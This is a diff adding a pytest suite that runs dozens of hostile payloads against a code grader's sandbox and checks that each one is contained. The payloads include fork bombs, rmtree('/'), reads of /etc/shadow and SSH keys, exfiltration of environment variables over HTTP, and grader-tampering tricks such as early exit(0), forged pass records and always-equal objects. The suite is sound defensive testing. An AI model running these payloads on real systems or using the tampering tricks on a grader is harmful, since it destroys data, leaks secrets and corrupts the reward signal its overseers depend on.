@@ -1,0 +1,321 @@
+"""Adversarial payloads against the code grader's sandbox (rlctl_rewards.sandbox + rlctl_rewards.code).
+
+Each payload is run as the "solution" of a task whose test is ``assert answer() == 42``.
+After each one: no canary byte in anything that came back, no host file written,
+no jailed process left on the host, no connection reached the host listeners, the
+outcome is in the payload's expected set, and the grader still passes a valid
+submission. ``ESCAPED:`` in the output means a payload detected its own success.
+A table payload -> outcome is printed at the end of the session.
+"""
+
+from __future__ import annotations
+
+import os
+import secrets
+import socket
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from rlctl_rewards.code import judge, parse_tests
+from rlctl_rewards.sandbox import NOBODY, Limits, Sandbox
+from tests.conftest import SUMMARY_TABLES
+
+TOKEN = secrets.token_hex(12)
+CANARY = f"CANARY{TOKEN}"
+TABLE = SUMMARY_TABLES.setdefault("sandbox payload -> outcome", [])
+SETUP, TESTS = parse_tests("assert answer() == 42")
+VALID = "def answer():\n    return 6 * 7\n"
+
+
+class Listener:
+    """TCP + UDP listeners on 127.0.0.1 that record anything arriving."""
+
+    def __init__(self) -> None:
+        self.tcp = socket.create_server(("127.0.0.1", 0))
+        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.udp.bind(("127.0.0.1", 0))
+        self.tcp.settimeout(0.2)
+        self.udp.settimeout(0.2)
+        self.hits: list[str] = []
+        self._stop = False
+        self._thread = threading.Thread(target=self._loop, daemon=True)
+        self._thread.start()
+
+    def _loop(self) -> None:
+        while not self._stop:
+            try:
+                conn, addr = self.tcp.accept()
+                self.hits.append(f"tcp from {addr}: {conn.recv(4096)[:100]!r}")
+                conn.close()
+            except OSError:
+                pass
+            try:
+                data, addr = self.udp.recvfrom(4096)
+                self.hits.append(f"udp from {addr}: {data[:100]!r}")
+            except OSError:
+                pass
+
+    def close(self) -> None:
+        self._stop = True
+        self._thread.join(2)
+        self.tcp.close()
+        self.udp.close()
+
+
+@pytest.fixture(scope="module")
+def world(tmp_path_factory: pytest.TempPathFactory):
+    """Canaries planted on the host: an env var, a fake home (~/.ssh), a registry DB, /tmp and /dev/shm files."""
+    root = tmp_path_factory.mktemp("host")
+    home = root / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY----- {CANARY}\n")
+    (root / "rlctl_home").mkdir()
+    (root / "rlctl_home" / "registry.db").write_bytes(f"SQLite format 3\0 {CANARY}".encode())
+    (root / "tests_hidden.py").write_text(f"assert answer() == 42  # {CANARY}\n")
+    shared = [Path(f"/tmp/rlctl-canary-{TOKEN}"), Path(f"/dev/shm/rlctl-canary-{TOKEN}")]
+    for path in shared:
+        path.write_text(CANARY)
+    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    unix_path = root / "host.sock"
+    unix.bind(str(unix_path))
+    unix.listen(1)
+    old_env = os.environ.get("RLCTL_CANARY_SECRET")
+    os.environ["RLCTL_CANARY_SECRET"] = CANARY
+    listener = Listener()
+    sandbox = Sandbox(Limits(wall_s=3.0, cpu_s=3, memory_mb=256, pids=16, output_bytes=64 << 10))
+    sandbox.check()
+    values = {
+        "home": str(home), "registry": str(root / "rlctl_home" / "registry.db"), "root": str(root),
+        "tcp_port": listener.tcp.getsockname()[1], "udp_port": listener.udp.getsockname()[1],
+        "unix": str(unix_path), "grader_pid": os.getpid(), "token": TOKEN, "out": str(root / "out"),
+    }
+    (root / "out").mkdir()
+    yield sandbox, listener, values
+    listener.close()
+    unix.close()
+    for path in shared:
+        path.unlink(missing_ok=True)
+    if old_env is None:
+        os.environ.pop("RLCTL_CANARY_SECRET", None)
+    else:
+        os.environ["RLCTL_CANARY_SECRET"] = old_env
+
+
+TIMEOUT, FAILED, PASSED = "timeout", "failed", "passed"
+NOT_PASSED = {FAILED, TIMEOUT}
+ANY = {FAILED, TIMEOUT, PASSED}
+
+# (id, code, allowed statuses). Format fields: see ``world``. A payload that detects its own
+# success prints ESCAPED:<what> to stderr (its prints land there).
+PAYLOADS: list[tuple[str, str, set[str]]] = [
+    # -- C.1 resource exhaustion
+    ("busy-loop", "while True: pass", {TIMEOUT}),
+    ("sleep-forever", "import time; time.sleep(10**9)", {TIMEOUT}),
+    ("ignore-signals", "import signal\nfor s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP):\n"
+     "    signal.signal(s, signal.SIG_IGN)\nsignal.alarm(0)\nwhile True: pass", {TIMEOUT}),
+    ("fork-bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", {TIMEOUT, FAILED}),
+    ("shell-fork-bomb", "import os; os.system(\"bash -c ':(){{ :|:& }};:; sleep 1'\")\ndef answer(): return 42", ANY),
+    ("thread-bomb", "import threading, time\nfor _ in range(100000):\n"
+     "    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()", NOT_PASSED),
+    ("memory-bomb", "x = bytearray(10**11)", {FAILED}),
+    ("memory-incremental", "l = []\nwhile True: l.append(b'x' * 10**7)", {FAILED, TIMEOUT}),
+    ("disk-bomb-cwd", "f = open('big', 'wb')\nwhile True: f.write(b'x' * 2**20)", {FAILED, TIMEOUT}),
+    ("disk-bomb-tmp", "import os\nfd = os.open('/tmp/big', os.O_CREAT | os.O_WRONLY)\n"
+     "os.posix_fallocate(fd, 0, 50 * 2**30)", {FAILED}),
+    ("output-flood", "print('A' * 10**9)", {FAILED, TIMEOUT}),
+    ("output-flood-binary", "import os\nwhile True:\n    os.write(1, b'\\0\\x1b[2J\\xff' * 4096)\n"
+     "    os.write(2, b'\\0\\x1b[2J' * 4096)", {FAILED, TIMEOUT}),
+    ("fd-exhaustion", "fs = [open('/dev/null') for _ in range(10**6)]", {FAILED}),
+    ("catastrophic-regex", "import re; re.match('(a+)+$', 'a' * 64 + 'b')", {TIMEOUT}),
+    ("huge-int", "x = 10**(10**10)", {TIMEOUT, FAILED}),
+    ("recursion-segfault", "import sys; sys.setrecursionlimit(10**9)\ndef f(): return f()\nf()", {FAILED, TIMEOUT}),
+    ("daemon-double-fork", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+     "        time.sleep(2); open('{out}/late-' + '{token}', 'w').write('ESCAPED:daemon'); os._exit(0)\n"
+     "    os._exit(0)\ndef answer(): return 42", {PASSED}),
+    ("time-bomb-nohup", "import subprocess\nsubprocess.Popen(['nohup', 'sh', '-c', 'sleep 2; echo ESCAPED > "
+     "{out}/bomb-{token}'], start_new_session=True)\ndef answer(): return 42", {PASSED}),
+    # -- C.2 filesystem
+    ("rmtree-root", "import shutil; shutil.rmtree('/', ignore_errors=True)\ndef answer(): return 42", {PASSED, TIMEOUT}),
+    ("overwrite-python", "open('/usr/bin/python3', 'wb').write(b'x')", {FAILED}),
+    ("write-etc", "open('/etc/evil', 'w').write('x')", {FAILED}),
+    ("write-host-path", "import os\nfor p in ('{out}/pwn-{token}', '/tmp/pwn-{token}', '/root/pwn-{token}',\n"
+     "          '/work/pwn-{token}', '{root}/pwn-{token}'):\n"
+     "    try:\n        open(p, 'w').write('x')\n    except OSError: pass\n"
+     "def answer(): return 42", {PASSED}),
+    ("read-shadow", "print(open('/etc/shadow').read())", {FAILED}),
+    ("read-ssh-key", "print(open('{home}/.ssh/id_rsa').read())", {FAILED}),
+    ("read-root-ssh", "import os; print(os.listdir(os.path.expanduser('~/.ssh')) + os.listdir('/root/.ssh'))",
+     {FAILED}),
+    ("read-registry-db", "print(open('{registry}', 'rb').read())", {FAILED}),
+    ("read-host-tmp", "print(open('/tmp/rlctl-canary-{token}').read())", {FAILED}),
+    ("read-host-shm", "print(open('/dev/shm/rlctl-canary-{token}').read())", {FAILED}),
+    ("find-hidden-tests", "import glob\nfor p in glob.glob('/**/*.py', recursive=True) + glob.glob('/**/*.db', "
+     "recursive=True):\n    d = open(p, 'rb').read()\n    if b'CANARY' in d: print('ESCAPED', d)\n"
+     "def answer(): return 42", {PASSED, TIMEOUT}),
+    ("symlink-escape", "import os\nos.symlink('/etc/passwd', 'out.txt'); os.symlink('{home}/.ssh/id_rsa', 'k')\n"
+     "print(open('k').read())", {FAILED}),
+    ("path-traversal", "print(open('../../../../{registry}').read())", {FAILED}),
+    ("persist-between-runs", "import os\nopen('/tmp/persist-{token}', 'w').write('x')\n"
+     "def answer(): return 42 if not os.path.exists('/tmp/persist-seen') else 0", {PASSED}),
+    ("dev-access", "import os\nfor d in ('/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/nvidia0', '/dev/port'):\n"
+     "    try:\n        open(d, 'rb').read(16); print('ESCAPED:' + d)\n    except OSError: pass\n"
+     "print(sorted(os.listdir('/dev')))\ndef answer(): return 42", {PASSED}),
+    ("mount-tmpfs", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+     "if libc.mount(b'none', b'/usr', b'tmpfs', 0, None) == 0: print('ESCAPED:mount')\n"
+     "def answer(): return 42", {PASSED}),
+    # -- C.3 network
+    ("tcp-host-loopback", "import socket\ns = socket.create_connection(('127.0.0.1', {tcp_port}), timeout=1)\n"
+     "s.sendall(b'ESCAPED ' + b'{token}')", {FAILED}),
+    ("http-exfil", "import os, urllib.parse, urllib.request\nurllib.request.urlopen('http://127.0.0.1:{tcp_port}/?d='"
+     " + urllib.parse.quote('ESCAPED' + repr(dict(os.environ))), timeout=1)", {FAILED}),
+    ("tcp-external", "import socket; socket.create_connection(('192.0.2.1', 80), timeout=1)", {FAILED}),
+    ("tcp-metadata", "import socket; socket.create_connection(('169.254.169.254', 80), timeout=1)", {FAILED}),
+    ("dns-lookup", "import socket; print(socket.gethostbyname('{token}.example.com'))", {FAILED}),
+    ("udp-exfil", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+     "s.sendto(b'ESCAPED', ('127.0.0.1', {udp_port})); s.sendto(b'x', ('8.8.8.8', 53))", {FAILED, PASSED}),
+    ("raw-icmp", "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)", {FAILED}),
+    ("unix-socket", "import socket\ns = socket.socket(socket.AF_UNIX); s.connect('{unix}')", {FAILED}),
+    ("list-interfaces", "import socket\nnames = [n for _, n in socket.if_nameindex()]\n"
+     "if set(names) - {{'lo'}}: print('ESCAPED:interfaces', names)\ndef answer(): return 42", {PASSED}),
+    # -- C.4 processes, privileges, kernel surface
+    ("dump-environ", "import os; print(dict(os.environ)); print(open('/proc/self/environ').read())\n"
+     "def answer(): return 42", {PASSED}),
+    ("proc-1-environ", "print(open('/proc/1/environ', 'rb').read()); print(open('/proc/1/cmdline', 'rb').read())\n"
+     "def answer(): return 42", {PASSED, FAILED}),
+    ("proc-all-environ", "import glob\nfor p in glob.glob('/proc/[0-9]*/environ'):\n"
+     "    try: print(p, open(p, 'rb').read())\n    except OSError: pass\n"
+     "print(open('/proc/{grader_pid}/environ', 'rb').read())", {FAILED}),
+    ("kill-parent", "import os, signal; os.kill(os.getppid(), signal.SIGKILL)\ndef answer(): return 42", ANY),
+    ("kill-grader-pid", "import os; os.kill({grader_pid}, 9)", {FAILED}),
+    ("kill-all", "import os; os.kill(-1, 9)", {FAILED}),
+    ("killpg", "import os; os.killpg(0, 9)", {FAILED}),
+    ("ptrace-grader", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+     "if libc.ptrace(16, {grader_pid}, None, None) == 0: print('ESCAPED:ptrace')\n"
+     "def answer(): return 42", {PASSED}),
+    ("setuid-su", "import os, subprocess\nfor cmd in (['su', '-c', 'id'], ['sudo', 'id'], ['mount']):\n"
+     "    try:\n        r = subprocess.run(cmd, capture_output=True, timeout=2)\n"
+     "        if b'uid=0' in r.stdout: print('ESCAPED:root')\n    except Exception: pass\n"
+     "if os.geteuid() == 0: print('ESCAPED:euid0')\ndef answer(): return 42", {PASSED}),
+    ("capabilities", "caps = [l for l in open('/proc/self/status') if l.startswith(('CapEff', 'CapPrm'))]\n"
+     "if any(l.split()[1].strip('0') for l in caps): print('ESCAPED:caps', caps)\ndef answer(): return 42", {PASSED}),
+    ("unshare-userns", "import subprocess\nr = subprocess.run(['unshare', '-Ur', 'id'], capture_output=True)\n"
+     "if r.returncode == 0: print('ESCAPED:userns', r.stdout)\ndef answer(): return 42", {PASSED}),
+    # -- C.5 grader tampering
+    ("sys-exit-0", "import sys; sys.exit(0)", {FAILED}),
+    ("os-exit-0", "import os; os._exit(0)", {FAILED}),
+    ("print-sentinel", "import json\nprint('ALL TESTS PASSED'); print(json.dumps({{'reward': 1.0}}))\n"
+     "print(json.dumps({{'i': 0, 'ok': True, 'value': ['int', '42']}}))\ndef answer(): return 41", {FAILED}),
+    ("forge-records-fd", "import json, os\nfor fd in range(3, 64):\n    try:\n"
+     "        os.write(fd, (json.dumps({{'n': 'guess', 'i': 0, 'ok': True, 'value': ['int', '42']}}) + '\\n').encode())\n"
+     "    except OSError: pass\ndef answer(): return 41", {FAILED}),
+    ("duplicate-record", "import gc, json, os\nnonce = [o for o in gc.get_objects() if isinstance(o, dict) and 'nonce' in o]\n"
+     "n = nonce[0]['nonce'] if nonce else ''\nfor fd in range(3, 16):\n    try: os.write(fd, (json.dumps({{'n': n, 'i': 0,"
+     " 'ok': True, 'value': ['int', '42']}}) + '\\n').encode())\n    except OSError: pass\ndef answer(): return 41",
+     {FAILED}),
+    ("always-equal", "class A:\n    def __eq__(self, o): return True\n    __hash__ = object.__hash__\n"
+     "def answer(): return A()", {FAILED}),
+    ("int-subclass", "class I(int):\n    def __eq__(self, o): return True\ndef answer(): return I(41)", {FAILED}),
+    ("patch-assert", "import builtins\nbuiltins.AssertionError = type('X', (Exception,), {{}})\n"
+     "def answer(): return 41", {FAILED}),
+    ("sitecustomize", "for n in ('conftest.py', 'sitecustomize.py', 'usercustomize.py', 'x.pth'):\n"
+     "    open(n, 'w').write('import os; os._exit(0)')\ndef answer(): return 41", {FAILED}),
+    ("disable-timers", "import signal, time\nsignal.alarm(0); time.time = lambda: 0.0; time.monotonic = lambda: 0.0\n"
+     "while True: pass", {TIMEOUT}),
+    ("nan-reward", "def answer(): return float('nan')", {FAILED}),
+    ("huge-source", "# " + "x" * (1 << 20) + "\ndef answer(): return 42", {PASSED}),
+    ("nul-in-source", "def answer(): return 42\0", {FAILED}),
+]
+
+
+def _host_files(values: dict) -> list[str]:
+    roots = [Path("/tmp"), Path(values["out"]), Path(values["root"]), Path("/root"), Path("/work"), Path.cwd()]
+    found = []
+    for base in roots:
+        try:
+            found += [str(p) for p in base.iterdir() if TOKEN in p.name and "canary" not in p.name]
+        except OSError:
+            pass
+    return found
+
+
+def _jailed_processes() -> list[str]:
+    """Host processes running as the jail's uid (nobody else uses it here)."""
+    pids = []
+    for status in Path("/proc").glob("[0-9]*/status"):
+        try:
+            uid = next(line.split()[1] for line in status.read_text().splitlines() if line.startswith("Uid:"))
+        except (OSError, StopIteration):
+            continue
+        if int(uid) == NOBODY:
+            state = next((line for line in status.read_text().splitlines() if line.startswith("State:")), "")
+            pids.append(f"{status.parent.name} {state} {(status.parent / 'cmdline').read_bytes()[:80]!r}")
+    return pids
+
+
+def _leftover_cgroups() -> list[str]:
+    return [str(p) for p in Path("/sys/fs/cgroup/pids").rglob(f"rlctl-sbx-{os.getpid()}-*")]
+
+
+# A quick subset runs in the default suite; the whole catalogue (about 2.5 min) is marked slow (CI runs it).
+QUICK = {"tcp-host-loopback", "dump-environ", "proc-all-environ", "write-host-path", "os-exit-0", "always-equal"}
+
+
+@pytest.mark.parametrize(("name", "code", "allowed"), [
+    pytest.param(*p, id=p[0], marks=() if p[0] in QUICK else pytest.mark.slow) for p in PAYLOADS])
+def test_payload_is_contained(world, name: str, code: str, allowed: set[str]) -> None:
+    sandbox, listener, values = world
+    hits_before = len(listener.hits)
+    verdict = judge(sandbox, code.format(**values), SETUP, TESTS)
+    run = verdict.run
+    seen = b"" if run is None else run.stdout + run.stderr
+    seen += verdict.detail.encode()
+    if name in ("daemon-double-fork", "time-bomb-nohup"):
+        time.sleep(2.5)  # long enough for a surviving bomb to go off
+    leaked = CANARY.encode() in seen
+    escaped = b"ESCAPED" in seen
+    files, procs, cgroups = _host_files(values), _jailed_processes(), _leftover_cgroups()
+    net = listener.hits[hits_before:]
+    after = judge(sandbox, VALID, SETUP, TESTS)
+    persisted = judge(sandbox, "import os\ndef answer(): return 42 if not os.listdir('/tmp') else 0", SETUP, TESTS)
+    contained = (verdict.status in allowed and not leaked and not escaped and not files and not procs
+                 and not cgroups and not net and after.status == PASSED and persisted.status == PASSED)
+    TABLE.append(f"{name:<22} {verdict.status:<8} {verdict.passed}/{verdict.total} "
+                 f"{(run.wall_s if run else 0):5.2f}s oom={int(bool(run and run.oom_killed))} "
+                 f"pids_cap={int(bool(run and run.pids_limited))} swept={run.leftovers_killed if run else 0} "
+                 f"{'contained' if contained else 'NOT CONTAINED'}  {verdict.detail[:60]!r}")
+    assert verdict.status in allowed, (verdict.status, verdict.detail)
+    assert not leaked, "canary bytes came back"
+    assert not escaped, seen[-500:]
+    assert not files, files
+    assert not procs, f"jailed processes left on the host: {procs}"
+    assert not cgroups, cgroups
+    assert not net, net
+    assert after.status == PASSED, after.detail
+    assert persisted.status == PASSED, "something persisted into the next run's /tmp"
+    assert os.environ["RLCTL_CANARY_SECRET"] == CANARY
+    assert Path(values["home"], ".ssh", "id_rsa").read_text().startswith("-----BEGIN KEY")  # host files intact
+    assert os.access("/usr/bin/python3", os.X_OK)
+
+
+def test_suite_has_forty_payloads() -> None:
+    assert len(PAYLOADS) >= 40
+
+
+def test_dropping_the_network_namespace_lets_the_payload_escape(world) -> None:
+    """The network check has teeth: without --unshare-net the same payload reaches the host listener."""
+    _, listener, values = world
+    weak = Sandbox(Limits(wall_s=3.0, cpu_s=3, memory_mb=256, pids=16), drop_flags=("--unshare-net",))
+    code = dict(PAYLOADS_BY_NAME)["tcp-host-loopback"].format(**values)
+    before = len(listener.hits)
+    verdict = judge(weak, code, SETUP, TESTS)
+    deadline = time.monotonic() + 3
+    while len(listener.hits) == before and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert listener.hits[before:], f"expected the payload to escape without --unshare-net ({verdict.detail})"
+    TABLE.append(f"{'[no --unshare-net]':<22} tcp-host-loopback reached the host: {listener.hits[before][:60]}")
+
+
+PAYLOADS_BY_NAME = [(name, code) for name, code, _ in PAYLOADS]
